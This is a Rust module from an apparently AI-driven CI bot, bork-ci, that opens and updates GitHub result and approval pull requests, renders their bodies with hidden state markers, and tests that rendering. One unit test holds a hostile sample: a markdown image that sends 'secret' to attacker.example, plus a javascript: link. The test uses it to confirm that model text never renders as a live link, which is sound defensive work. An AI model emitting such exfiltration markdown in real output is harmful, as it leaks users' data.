//! The result pull request and the approval pull requests: finding them again on a re-run
//! (deterministic branch plus a hidden marker in the body), opening or updating them, and
//! rendering their bodies. Rendering is pure; model and checker text only ever appears inside
//! code fences, and no link or image is taken from it.

use std::fmt::Write as _;
use std::path::Path;

use serde_json::{Value, json};

use super::client::{Client, expect_success};
use super::labels;
use super::state::{ApprovalRecord, ApprovalState, SavedState};
use super::{
    GithubContext, GithubError, MAX_BODY_BYTES, PendingEdit, PublishInput, PublishOutcome, PullRef, Session,
    git,
};
use crate::findings::{Finding, Findings};
use crate::report::RunStatus;

/// The hidden marker of the result pull request for `base`.
pub fn result_marker(base: &str) -> String {
    format!("<!-- bork-ci:result base={} -->", super::sanitize_branch(base))
}

/// The hidden marker of the findings comment.
pub fn findings_marker(base: &str) -> String {
    format!("<!-- bork-ci:findings base={} -->", super::sanitize_branch(base))
}

/// The hidden marker of an approval pull request.
pub fn approval_marker(base: &str, sha256: &str) -> String {
    format!(
        "<!-- bork-ci:approval base={} sha256={sha256} -->",
        super::sanitize_branch(base)
    )
}

/// Cuts `text` to at most `max` bytes at a character boundary, saying so.
pub fn truncate(text: &str, max: usize) -> String {
    if text.len() <= max {
        return text.to_owned();
    }
    let note = "\n\n… (truncated: the full text is in the job log)\n";
    let mut end = max.saturating_sub(note.len() + 8);
    while end > 0 && !text.is_char_boundary(end) {
        end -= 1;
    }
    let mut cut = text[..end].to_owned();
    // Close a fence left open by the cut so the rest of the body renders as Markdown.
    if cut.matches("```").count() % 2 == 1 {
        cut.push_str("\n```");
    }
    cut.push_str(note);
    cut
}

fn finding_text(finding: &Finding) -> (Option<&str>, String) {
    match finding {
        Finding::CodeReview { file, finding } => (file.as_deref(), finding.clone()),
        Finding::Command {
            command,
            stdout,
            stderr,
            exit_code,
        } => (
            None,
            format!("$ {command}\nexit code {exit_code}\n--- stdout\n{stdout}\n--- stderr\n{stderr}"),
        ),
    }
}

/// The result pull request's body: what happened, then the hidden markers and state.
pub fn render_result_body(
    base: &str,
    input: &PublishInput,
    approvals: &[ApprovalRecord],
    state: &SavedState,
) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "## bork-ci: {}", input.status.as_str());
    let _ = writeln!(
        out,
        "\nbork-ci brought this branch in line with the specs on {}.\n",
        crate::untrusted::code_span(base)
    );
    let _ = writeln!(out, "| iteration | updated | deleted | findings left |");
    let _ = writeln!(out, "|---:|---:|---:|---:|");
    for iteration in &input.iterations {
        let _ = writeln!(
            out,
            "| {} | {} | {} | {} |",
            iteration.number,
            iteration.applied.len(),
            iteration.deleted.len(),
            iteration.findings_left
        );
    }
    let (input_tokens, output_tokens, cached) = input.tokens;
    let _ = writeln!(
        out,
        "\nTokens: {input_tokens} in, {output_tokens} out, {cached} cached{}. Prompt version: {}.",
        input
            .cost_usd
            .map(|cost| format!(" (about ${cost:.4})"))
            .unwrap_or_default(),
        crate::untrusted::code_span(&input.prompt_version)
    );
    if !approvals.is_empty() {
        let _ = writeln!(out, "\n### Changes waiting for approval\n");
        let _ = writeln!(
            out,
            "Each change below has its own pull request into this branch. Approve it with a \
             review (write access needed) to apply it, or request changes to reject it.\n"
        );
        for record in approvals {
            let what = match &record.state {
                ApprovalState::Pending => "pending".to_owned(),
                ApprovalState::Approved { .. } => "approved and applied".to_owned(),
                ApprovalState::Rejected { .. } => "rejected".to_owned(),
            };
            let _ = writeln!(
                out,
                "- {} ({}): #{} — {what}",
                crate::untrusted::code_span(&record.path),
                crate::untrusted::one_line(&record.rule),
                record.pr_number
            );
        }
    }
    if !input.refused.is_empty() {
        let _ = writeln!(out, "\n### Refused edits\n");
        for (path, reason) in &input.refused {
            let _ = writeln!(
                out,
                "- {}: {}",
                crate::untrusted::code_span(path),
                crate::untrusted::one_line(reason)
            );
        }
    }
    if !input.findings_left.is_empty() {
        let _ = writeln!(
            out,
            "\n### Findings left: {}\n\n<details><summary>show</summary>\n",
            input.findings_left.len()
        );
        out.push_str(&render_findings_list(&input.findings_left));
        let _ = writeln!(out, "\n</details>");
    }
    let markers = format!("\n{}\n{}\n", result_marker(base), state.to_marker());
    let mut body = truncate(&out, MAX_BODY_BYTES.saturating_sub(markers.len()));
    body.push_str(&markers);
    body
}

fn render_findings_list(findings: &Findings) -> String {
    let mut out = String::new();
    let mut by_file: Vec<(&str, Vec<String>)> = Vec::new();
    let mut overall = Vec::new();
    for finding in findings
        .per_file_findings
        .iter()
        .chain(findings.overall_findings.iter())
    {
        match finding_text(finding) {
            (Some(file), text) => match by_file.iter_mut().find(|(f, _)| *f == file) {
                Some((_, texts)) => texts.push(text),
                None => by_file.push((file, vec![text])),
            },
            (None, text) => overall.push(text),
        }
    }
    for (file, texts) in by_file {
        let _ = writeln!(out, "#### {}\n", crate::untrusted::code_span(file));
        for text in texts {
            let _ = writeln!(out, "{}\n", crate::untrusted::markdown_block(&text));
        }
    }
    if !overall.is_empty() {
        let _ = writeln!(out, "#### Overall\n");
        for text in overall {
            let _ = writeln!(out, "{}\n", crate::untrusted::markdown_block(&text));
        }
    }
    out
}

/// The escalation comment: the findings left, per file.
pub fn render_findings_comment(base: &str, findings: &Findings, iterations: usize) -> String {
    let mut out = format!(
        "### bork-ci needs a human\n\nAfter {iterations} iterations these findings remain \
         ({} in all):\n\n",
        findings.len()
    );
    out.push_str(&render_findings_list(findings));
    let marker = format!("\n{}\n", findings_marker(base));
    let mut body = truncate(&out, MAX_BODY_BYTES.saturating_sub(marker.len()));
    body.push_str(&marker);
    body
}

/// The comment left once a later run converged.
pub fn render_resolved_comment(base: &str) -> String {
    format!(
        "### bork-ci: resolved\n\nA later run converged: no findings remain.\n\n{}\n",
        findings_marker(base)
    )
}

/// An approval pull request's body: the one change, its sha256, and how to decide.
pub fn render_approval_body(base: &str, edit: &PendingEdit, sha256: &str) -> String {
    let mut out = String::new();
    let action = if edit.delete { "delete" } else { "change" };
    let _ = writeln!(
        out,
        "## bork-ci asks to {action} {}\n\nRule: {}\n",
        crate::untrusted::code_span(&edit.path),
        crate::untrusted::one_line(&edit.rule)
    );
    let _ = writeln!(
        out,
        "Approve this pull request with a review to apply exactly this change (sha256 \
         `{sha256}`); request changes, with a comment saying why, to reject it. Only reviews \
         by people with write access on the current head commit count.\n"
    );
    if let Some(contents) = &edit.contents {
        let _ = writeln!(out, "<details><summary>proposed content</summary>\n");
        let _ = writeln!(out, "{}\n", crate::untrusted::markdown_block(contents));
        let _ = writeln!(out, "</details>");
    }
    let marker = format!("\n{}\n", approval_marker(base, sha256));
    let mut body = truncate(&out, MAX_BODY_BYTES.saturating_sub(marker.len()));
    body.push_str(&marker);
    body
}

fn pull_ref(pull: &Value) -> Option<PullRef> {
    Some(PullRef {
        number: pull.get("number")?.as_u64()?,
        url: pull.get("html_url")?.as_str()?.to_owned(),
    })
}

/// Open pull requests from `head` (this repository) into `base`.
async fn find_open(
    client: &Client,
    ctx: &GithubContext,
    head: &str,
    base: Option<&str>,
) -> Result<Vec<Value>, GithubError> {
    let mut route = format!(
        "/repos/{}/{}/pulls?state=open&head={}:{}",
        ctx.owner,
        ctx.repo,
        ctx.owner,
        labels::encode(head).replace("%2F", "/")
    );
    if let Some(base) = base {
        route.push_str(&format!("&base={}", labels::encode(base).replace("%2F", "/")));
    }
    let pulls = client.get_all(&route).await?;
    // Filter again: some servers ignore `head` without an owner prefix.
    Ok(pulls
        .into_iter()
        .filter(|pull| pull.pointer("/head/ref").and_then(Value::as_str) == Some(head))
        .collect())
}

/// Opens a pull request, or finds the one that already exists for `head` (re-run or a
/// concurrent run), and sets its title and body.
async fn open_or_update(
    client: &Client,
    ctx: &GithubContext,
    head: &str,
    base: &str,
    title: &str,
    body: &str,
    existing: Option<u64>,
) -> Result<PullRef, GithubError> {
    let route = format!("/repos/{}/{}/pulls", ctx.owner, ctx.repo);
    let number = match existing {
        Some(number) => Some(number),
        None => {
            let answer = client
                .post(
                    &route,
                    &json!({ "title": title, "head": head, "base": base, "body": body,
                             "maintainer_can_modify": true }),
                )
                .await?;
            if answer.is_success() {
                return pull_ref(&answer.body)
                    .ok_or_else(|| GithubError::Protocol("pull request without number".into()));
            }
            if answer.status != 422 || !answer.message().contains("already exists") {
                expect_success(answer, &route)?;
            }
            find_open(client, ctx, head, Some(base))
                .await?
                .first()
                .and_then(|pull| pull.get("number").and_then(Value::as_u64))
        }
    };
    let number = number
        .ok_or_else(|| GithubError::Protocol(format!("no open pull request from `{head}` after 422")))?;
    let update = format!("{route}/{number}");
    let answer = client
        .patch(&update, &json!({ "title": title, "body": body }))
        .await?;
    let answer = expect_success(answer, &update)?;
    pull_ref(&answer.body).ok_or_else(|| GithubError::Protocol("pull request without number".into()))
}

pub(crate) async fn start(ctx: &GithubContext, repo_root: &Path, base: &str) -> Result<Session, GithubError> {
    let client = Client::new(&ctx.api_url, &ctx.token, ctx.retry)?;
    let who = client.get("/user").await?;
    let bot_login = if who.is_success() {
        who.body.get("login").and_then(Value::as_str).map(str::to_owned)
    } else {
        None
    };
    let branch = ctx.result_branch(base);
    let url = ctx.remote_url();
    let base_sha = match (&ctx.sha, ctx.is_review_event()) {
        (Some(sha), false) => sha.clone(),
        _ => match git::fetch_branch(repo_root, &url, &ctx.token, base)? {
            Some(tip) => tip,
            None => git::rev_parse(repo_root, "HEAD")?,
        },
    };
    let marker = result_marker(base);
    let pulls = find_open(&client, ctx, &branch, Some(base)).await?;
    let result = pulls.iter().find(|pull| {
        pull.get("body")
            .and_then(Value::as_str)
            .is_some_and(|body| body.contains(&marker))
    });
    let result_pr = result.and_then(pull_ref);
    let bot_login = bot_login.or_else(|| {
        result
            .and_then(|pull| pull.pointer("/user/login"))
            .and_then(Value::as_str)
            .map(str::to_owned)
    });
    let state = result
        .and_then(|pull| pull.get("body").and_then(Value::as_str))
        .and_then(SavedState::from_body);
    let identity = git::Identity {
        name: ctx.author_name.clone(),
        email: ctx.author_email.clone(),
    };
    let remote_tip = git::fetch_branch(repo_root, &url, &ctx.token, &branch)?;
    let mut rebuilt = false;
    match &remote_tip {
        None => git::checkout(repo_root, &branch, &base_sha)?,
        Some(tip) if git::is_ancestor(repo_root, &base_sha, tip) => git::checkout(repo_root, &branch, tip)?,
        Some(tip) => {
            let authors = git::author_emails(repo_root, &base_sha, tip)?;
            let only_bork = authors.iter().all(|email| *email == ctx.author_email);
            let waiting = state.as_ref().is_some_and(|s| s.pending().next().is_some());
            if only_bork && !waiting {
                // The base moved on and nobody else touched bork's branch: start afresh from
                // the new base; the push uses a lease on the old tip.
                git::checkout(repo_root, &branch, &base_sha)?;
                rebuilt = true;
            } else {
                git::checkout(repo_root, &branch, tip)?;
                git::merge(
                    repo_root,
                    &identity,
                    &base_sha,
                    &format!(
                        "bork-ci: merge {} into {branch}",
                        crate::untrusted::one_line(base)
                    ),
                )?;
            }
        }
    }
    tracing::info!(branch = %branch, base = %base, resumed = state.is_some(), "GitHub session started");
    Ok(Session {
        ctx: ctx.clone(),
        client,
        base: base.to_owned(),
        base_sha,
        branch,
        repo_root: repo_root.to_path_buf(),
        bot_login,
        result_pr,
        state,
        remote_tip,
        rebuilt,
    })
}

impl Session {
    /// Pushes bork-ci's branch, opens or updates the result pull request and one approval pull
    /// request per pending edit, and adds or removes the escalation label and findings comment.
    pub async fn publish(&mut self, input: &PublishInput) -> Result<PublishOutcome, GithubError> {
        let mut outcome = PublishOutcome::default();
        if input.status == RunStatus::Skipped {
            return Ok(outcome);
        }
        let (owner, repo) = (self.ctx.owner.clone(), self.ctx.repo.clone());
        if let Some(pr) = &self.result_pr {
            let route = format!("/repos/{owner}/{repo}/pulls/{}", pr.number);
            let pull = expect_success(self.client.get(&route).await?, &route)?.body;
            if pull.get("merged").and_then(Value::as_bool) == Some(true) {
                return Err(GithubError::ResultClosed {
                    number: pr.number,
                    what: "merged",
                });
            }
        }
        let repo_root = self.repo_root.clone();
        let mut head = git::rev_parse(&repo_root, "HEAD")?;
        let ahead = git::count_between(&repo_root, &self.base_sha, &head)?;
        let new_pending: Vec<&PendingEdit> = input
            .pending
            .iter()
            .filter(|edit| !self.already_decided(edit))
            .collect();
        if ahead == 0 && new_pending.is_empty() && self.result_pr.is_none() {
            tracing::info!("no changes: no pull request");
            return Ok(outcome);
        }
        if ahead == 0 && self.result_pr.is_none() {
            // GitHub refuses a pull request without commits, and the result pull request is
            // where the approval state lives: record the wait as an empty commit.
            head = self.empty_commit(input.pending.len())?;
        }
        if self.remote_tip.as_deref() != Some(head.as_str()) {
            let lease = if self.rebuilt {
                self.remote_tip.as_deref()
            } else {
                None
            };
            if let Err(error) = git::push(
                &repo_root,
                &self.ctx.remote_url(),
                &self.ctx.token,
                &head,
                &self.branch,
                lease,
            ) {
                if let Some(pr) = self.result_pr.clone() {
                    let note = format!(
                        "bork-ci could not push to `{}`: someone else pushed to it, or the push \
                         was refused. bork-ci does not force-push over other people's commits; \
                         it stopped here.\n\n{}",
                        self.branch,
                        crate::untrusted::markdown_block(&error.to_string())
                    );
                    let _ = self
                        .client
                        .post(
                            &format!("/repos/{owner}/{repo}/issues/{}/comments", pr.number),
                            &json!({ "body": truncate(&note, MAX_BODY_BYTES) }),
                        )
                        .await;
                }
                return Err(error);
            }
            self.remote_tip = Some(head.clone());
            self.rebuilt = false;
            outcome.pushed = true;
        }
        let mut state = self.state.clone().unwrap_or_default();
        state.version = 1;
        state.base = self.base.clone();
        state.base_sha = self.base_sha.clone();
        state.status = input.status;
        state.iterations = input.spent.iterations;
        state.spent = input.spent;
        for edit in &input.pending {
            match self.open_approval(&head, edit, &state).await {
                Ok(Some(record)) => {
                    outcome.approval_prs.push((
                        record.path.clone(),
                        PullRef {
                            number: record.pr_number,
                            url: record.pr_url.clone(),
                        },
                    ));
                    state
                        .approvals
                        .retain(|old| !(old.path == record.path && old.state == ApprovalState::Pending));
                    state.approvals.push(record);
                }
                Ok(None) => outcome.warnings.push(format!(
                    "{}: the same change was rejected before; not proposed again",
                    edit.path
                )),
                Err(error) => outcome
                    .warnings
                    .push(format!("approval pull request for {}: {error}", edit.path)),
            }
        }
        let body = render_result_body(&self.base, input, &state.approvals, &state);
        let title =
            crate::untrusted::one_line(&format!("bork-ci: bring {} in line with its specs", self.base));
        let pr = open_or_update(
            &self.client,
            &self.ctx,
            &self.branch,
            &self.base,
            &title,
            &body,
            self.result_pr.as_ref().map(|pr| pr.number),
        )
        .await?;
        self.result_pr = Some(pr.clone());
        self.state = Some(state);
        outcome.result_pr = Some(pr.clone());
        let marker = findings_marker(&self.base);
        if input.status == RunStatus::NeedsHuman {
            labels::ensure_label(&self.client, &owner, &repo, &self.ctx.label).await?;
            labels::add_label(&self.client, &owner, &repo, pr.number, &self.ctx.label).await?;
            outcome.labelled = true;
            let comment = render_findings_comment(&self.base, &input.findings_left, input.iterations.len());
            labels::upsert_comment(
                &self.client,
                &owner,
                &repo,
                pr.number,
                &marker,
                &comment,
                self.bot_login.as_deref(),
                false,
            )
            .await?;
        } else if input.status == RunStatus::Converged {
            labels::remove_label(&self.client, &owner, &repo, pr.number, &self.ctx.label).await?;
            labels::upsert_comment(
                &self.client,
                &owner,
                &repo,
                pr.number,
                &marker,
                &render_resolved_comment(&self.base),
                self.bot_login.as_deref(),
                true,
            )
            .await?;
        }
        Ok(outcome)
    }

    fn already_decided(&self, edit: &PendingEdit) -> bool {
        let sha = edit_sha(edit);
        self.state.as_ref().is_some_and(|state| {
            state.approvals.iter().any(|record| {
                record.path == edit.path
                    && record.sha256 == sha
                    && record.delete == edit.delete
                    && !matches!(record.state, ApprovalState::Pending)
            })
        })
    }

    fn empty_commit(&self, pending: usize) -> Result<String, GithubError> {
        let identity = self.identity();
        let message = format!("bork-ci: waiting for approval of {pending} change(s)\n");
        let tree_parent = git::rev_parse(&self.repo_root, "HEAD")?;
        let commit = git::single_change_commit_empty(&self.repo_root, &identity, &tree_parent, &message)?;
        git::fast_forward(&self.repo_root, &commit)?;
        Ok(commit)
    }

    /// Opens (or keeps) the approval pull request for one pending edit; `None` when the same
    /// change was already rejected.
    async fn open_approval(
        &self,
        head: &str,
        edit: &PendingEdit,
        state: &SavedState,
    ) -> Result<Option<ApprovalRecord>, GithubError> {
        let sha256 = edit_sha(edit);
        if let Some(old) = state.approvals.iter().find(|record| {
            record.path == edit.path && record.sha256 == sha256 && record.delete == edit.delete
        }) {
            match old.state {
                ApprovalState::Rejected { .. } => return Ok(None),
                ApprovalState::Pending => return Ok(Some(old.clone())),
                ApprovalState::Approved { .. } => return Ok(Some(old.clone())),
            }
        }
        let tag = sha256.clone().unwrap_or_else(|| "delete".to_owned());
        let short: String = tag.chars().take(12).collect();
        let branch = super::sanitize_branch(&format!(
            "{}approve/{}/{}-{short}",
            self.ctx.branch_prefix, self.base, edit.path
        ));
        let identity = self.identity();
        let message = format!(
            "{}\n\nsha256: {tag}\n",
            crate::untrusted::one_line(&format!(
                "bork-ci: {} {}",
                if edit.delete { "delete" } else { "update" },
                edit.path
            ))
        );
        let url = self.ctx.remote_url();
        let existing = git::fetch_branch(&self.repo_root, &url, &self.ctx.token, &branch)?;
        let commit = match existing {
            Some(tip) if content_matches(&self.repo_root, &tip, edit, sha256.as_deref()) => tip,
            Some(_) => {
                return Err(GithubError::PushRejected {
                    branch,
                    detail: "the approval branch holds other content; left alone".into(),
                });
            }
            None => {
                let commit = git::single_change_commit(
                    &self.repo_root,
                    &identity,
                    head,
                    &edit.path,
                    edit.contents.as_deref().map(str::as_bytes),
                    &message,
                )?;
                git::push(&self.repo_root, &url, &self.ctx.token, &commit, &branch, Some(""))?;
                commit
            }
        };
        let title = crate::untrusted::one_line(&format!(
            "bork-ci: approve {} {}",
            if edit.delete { "deletion of" } else { "change to" },
            edit.path
        ));
        let body = render_approval_body(&self.base, edit, &tag);
        let existing_pr = find_open(&self.client, &self.ctx, &branch, Some(&self.branch))
            .await?
            .first()
            .and_then(|pull| pull.get("number").and_then(Value::as_u64));
        let pr = open_or_update(
            &self.client,
            &self.ctx,
            &branch,
            &self.branch,
            &title,
            &body,
            existing_pr,
        )
        .await?;
        Ok(Some(ApprovalRecord {
            path: edit.path.clone(),
            delete: edit.delete,
            sha256,
            rule: edit.rule.clone(),
            branch,
            pr_number: pr.number,
            pr_url: pr.url,
            head_sha: commit,
            state: ApprovalState::Pending,
        }))
    }

    /// Writes the current state into the result pull request's body, in place.
    pub(crate) async fn save_state(&mut self) -> Result<(), GithubError> {
        let (Some(pr), Some(state)) = (&self.result_pr, &self.state) else {
            return Ok(());
        };
        let route = format!("/repos/{}/{}/pulls/{}", self.ctx.owner, self.ctx.repo, pr.number);
        let pull = expect_success(self.client.get(&route).await?, &route)?.body;
        let body = pull.get("body").and_then(Value::as_str).unwrap_or_default();
        let visible = match body.find("<!-- bork-ci:state ") {
            Some(index) => body[..index].trim_end().to_owned(),
            None => body.trim_end().to_owned(),
        };
        let body = format!("{visible}\n{}\n", state.to_marker());
        expect_success(self.client.patch(&route, &json!({ "body": body })).await?, &route)?;
        Ok(())
    }
}

fn edit_sha(edit: &PendingEdit) -> Option<String> {
    if edit.delete {
        return None;
    }
    edit.sha256.clone().or_else(|| {
        edit.contents
            .as_deref()
            .map(|contents| git::sha256_hex(contents.as_bytes()))
    })
}

fn content_matches(repo: &Path, commit: &str, edit: &PendingEdit, sha256: Option<&str>) -> bool {
    match git::file_at(repo, commit, &edit.path) {
        Ok(None) => edit.delete,
        Ok(Some(bytes)) => !edit.delete && sha256 == Some(git::sha256_hex(&bytes).as_str()),
        Err(_) => false,
    }
}

#[cfg(test)]
#[allow(clippy::disallowed_methods)] // tests lay out their fixtures directly
mod tests {
    use super::*;

    #[test]
    fn model_text_never_becomes_a_link_or_image() {
        let findings = Findings {
            per_file_findings: vec![Finding::CodeReview {
                file: Some("src/a`](x).rs".into()),
                finding: "![x](https://attacker.example/?d=secret) [click](javascript:alert(1))".into(),
            }],
            overall_findings: vec![],
        };
        let body = render_findings_comment("main", &findings, 5);
        let outside: String = body.split("```").step_by(2).collect::<Vec<_>>().join("");
        assert!(!outside.contains("](https://attacker"), "{body}");
        assert!(!outside.contains("`](x)"));
        assert!(body.contains(&findings_marker("main")));
    }

    #[test]
    fn bodies_stay_under_the_limit_with_markers() {
        let input = PublishInput {
            status: RunStatus::NeedsHuman,
            findings_left: Findings {
                per_file_findings: (0..3000)
                    .map(|i| Finding::CodeReview {
                        file: Some(format!("f{i}.rs")),
                        finding: "x".repeat(100),
                    })
                    .collect(),
                overall_findings: vec![],
            },
            ..PublishInput::default()
        };
        let state = SavedState::default();
        let body = render_result_body("main", &input, &[], &state);
        assert!(body.len() <= MAX_BODY_BYTES, "{}", body.len());
        assert!(body.contains(&result_marker("main")));
        assert_eq!(SavedState::from_body(&body), Some(state));
    }

    #[test]
    fn titles_are_one_clean_line() {
        assert_eq!(crate::untrusted::one_line("a\nb\u{1b}[2J  c"), "a b[2J c");
        assert_eq!(crate::untrusted::one_line(&"x".repeat(500)).len(), 200);
    }
}
